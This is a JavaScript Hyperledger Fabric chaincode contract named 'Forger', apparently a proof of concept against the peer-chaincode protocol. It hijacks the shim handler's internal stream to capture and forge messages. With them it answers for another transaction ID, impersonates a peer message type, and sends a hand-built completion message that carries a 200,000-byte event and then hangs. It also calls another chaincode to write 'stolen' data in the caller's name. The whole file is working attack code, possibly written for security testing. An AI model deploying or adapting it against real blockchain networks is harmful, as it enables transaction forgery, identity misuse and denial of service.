'use strict';
// Speaks with the peer past the shim.
const { Contract } = require('fabric-contract-api');

class Forger extends Contract {
  /** Answers for a transaction of somebody else. */
  async answerForAnother(ctx) {
    const { _stream } = ctx.stub.handler;
    const forged = await this.captured(ctx);
    forged.setTxid('ab'.repeat(32));
    _stream.write(forged);
    return 'answered';
  }

  /** Says what only a peer may say. */
  async asPeer(ctx) {
    const forged = await this.captured(ctx);
    forged.setType(4);
    ctx.stub.handler._stream.write(forged);
  }

  /** Answers with two events: a peer would take both together, and whoever looks at the last sees none. */
  async twoEvents(ctx) {
    const field = (number, bytes) => {
      const length = [];
      for (let rest = bytes.length; ; rest >>>= 7) {
        length.push(rest > 127 ? (rest & 127) | 128 : rest);
        if (rest <= 127) break;
      }
      return Buffer.concat([Buffer.from([(number << 3) | 2, ...length]), bytes]);
    };
    const event = Buffer.concat([field(3, Buffer.from('Flood')), field(4, Buffer.alloc(200_000, 1))]);
    const completed = Buffer.concat([
      Buffer.from([8, 6]),
      field(3, Buffer.from([8, 200, 1])),
      field(4, Buffer.from(ctx.stub.getTxID())),
      field(6, event),
      field(6, Buffer.alloc(0)),
      field(7, Buffer.from(ctx.stub.getChannelID())),
    ]);
    ctx.stub.handler._stream.write({ getType: () => 6, serializeBinary: () => completed });
    await new Promise(() => undefined);
  }

  /** Has another chaincode do something in the name of whoever called this. */
  async invoke(ctx, chaincode, channel) {
    const { payload } = await ctx.stub.invokeChaincode(chaincode, ['Notes:put', 'k', 'stolen'], channel);
    return Buffer.from(payload).toString();
  }

  async captured(ctx) {
    let caught;
    const { handler } = ctx.stub;
    const { stream } = handler.msgQueueHandler;
    handler.msgQueueHandler.stream = { write: (message) => stream.write((caught = message)) };
    await ctx.stub.getState('k');
    handler.msgQueueHandler.stream = stream;
    return caught;
  }
}

module.exports.contracts = [Forger];
